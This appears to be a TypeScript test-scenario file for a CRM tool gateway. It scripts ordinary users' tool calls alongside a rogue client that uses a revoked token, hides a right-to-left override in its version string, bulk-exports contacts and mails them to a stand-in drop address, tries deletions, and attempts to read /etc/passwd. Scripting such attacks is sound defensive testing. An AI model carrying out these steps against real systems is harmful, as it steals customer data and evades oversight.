import { join } from "node:path";

import type { ApproverDesk } from "./answer-approvals.ts";
import { connectHttp } from "./connect.ts";
import type { Caller } from "./expect-call.ts";

/** The record that the first question is about. */
export const CONTACT = 42;

/** Where the rogue client sends what it read. */
export const DROP_ADDRESS = "drop@collect-sync.example";

/** How alice's and carol's clients introduce themselves. */
export const knownClients = {
  desktop: { name: "claude-desktop", version: "1.4.2" },
  console: { name: "support-console", version: "3.1.0" },
  writer: { name: "report-writer", version: "0.4.0" },
} as const;

/**
 * How the rogue client introduces itself. The mark at the end turns the writing direction: in a
 * careless viewer it scrambles the rest of the line.
 */
export const rogueClient = { name: "acme-agent", version: "0.9\u202e" } as const;

/** Alice's sales-bot looks at a customer and corrects the phone number. */
export async function correctPhone(alice: Caller): Promise<void> {
  await alice.ok("crm.contacts.search", { query: "quist" });
  await alice.ok("crm.contacts.get", { id: CONTACT });
  await alice.ok("crm.deals.list", { contact: CONTACT });
  await alice.turnedDown(
    "crm.contacts.update",
    { id: CONTACT, set: { phone: "ask reception" } },
    /country code/,
  );
  await alice.ok("crm.contacts.update", { id: CONTACT, set: { phone: "+1 555 0199" } });
  await alice.ok("crm.contacts.get", { id: CONTACT });
}

/** Carol works at her desk, over stdio. */
export async function workAtTheDesk(carol: Caller): Promise<void> {
  await carol.ok("crm.users.list", {});
  await carol.ok("crm.contacts.search", { query: "tidal" });
  for (const id of [7, 9, 13]) await carol.ok("crm.contacts.get", { id });
  await carol.ok("crm.contacts.update", { id: 7, set: { stage: "customer" } });
  await carol.ok("billing.refund", { invoice: 9007, amount: 40, reason: "double charge" });
  await carol.ok("billing.refund", { invoice: 9009, amount: 150, reason: "late delivery" });
}

/** Carol again, from an older client over HTTP that does not say its name with each call. */
export async function workFromTheRoad(carol: Caller): Promise<void> {
  await carol.ok("crm.contacts.get", { id: CONTACT });
  await carol.ok("crm.contacts.update", { id: CONTACT, set: { stage: "customer" } });
}

/** What the CRM's rules stop, and what dave decides. */
export async function askForApprovals(alice: Caller): Promise<void> {
  await alice.turnedDown(
    "billing.refund",
    { invoice: 9042, amount: 900, reason: "customer is angry" },
    /refund-limit\/max-500/,
  );
  await alice.ok("billing.refund", { invoice: 9042, amount: 300, reason: "outage in July" });
  await alice.turnedDown(
    "crm.users.set_role",
    { user: "alice@example.com", role: "admin" },
    /refused by dave/,
  );
  await alice.ok("crm.contacts.update", {
    id: CONTACT,
    set: { owner: "alice@example.com", credit_limit: 4000 },
  });
  await alice.ok("crm.contacts.get", { id: CONTACT });
}

/** The rogue client first tries a token that is no longer valid. */
export async function comeWithAnOldToken(url: string, desk: ApproverDesk): Promise<void> {
  const token = "crm_revoked_last_week";
  const failed = await connectHttp({ url, token, info: rogueClient, era: "modern", desk }).then(
    () => false,
    () => true,
  );
  if (!failed) throw new Error("the CRM took a token that nobody issued");
}

/** Bob's export-bot, run by a client that nobody has seen: reads everything and sends it away. */
export async function readThenSend(bob: Caller): Promise<void> {
  for (const after of [0, 20, 40]) await bob.ok("crm.contacts.export", { after, limit: 20 });
  for (const id of [CONTACT, 3, 14, 27, 33, 58]) await bob.ok("crm.contacts.get", { id });
  await bob.ok("mail.send", {
    to: DROP_ADDRESS,
    subject: "contacts",
    body: "60 contacts with phone numbers and credit limits",
  });
  for (let attempt = 0; attempt < 2; attempt++)
    await bob.turnedDown("crm.contacts.delete", { id: CONTACT }, /destructive-freeze/);
}

/** Carol's report, with the official filesystem server, and one step too far. */
export async function writeReport(carol: Caller, directory: string): Promise<void> {
  await carol.ok("list_directory", { path: directory });
  await carol.ok("read_text_file", { path: join(directory, "notes.md") });
  await carol.ok("write_file", {
    path: join(directory, "report.md"),
    content: "# Week 47\n\nContact 42 was upgraded.\n",
  });
  await carol.turnedDown("read_text_file", { path: "/etc/passwd" }, /Access denied/);
}
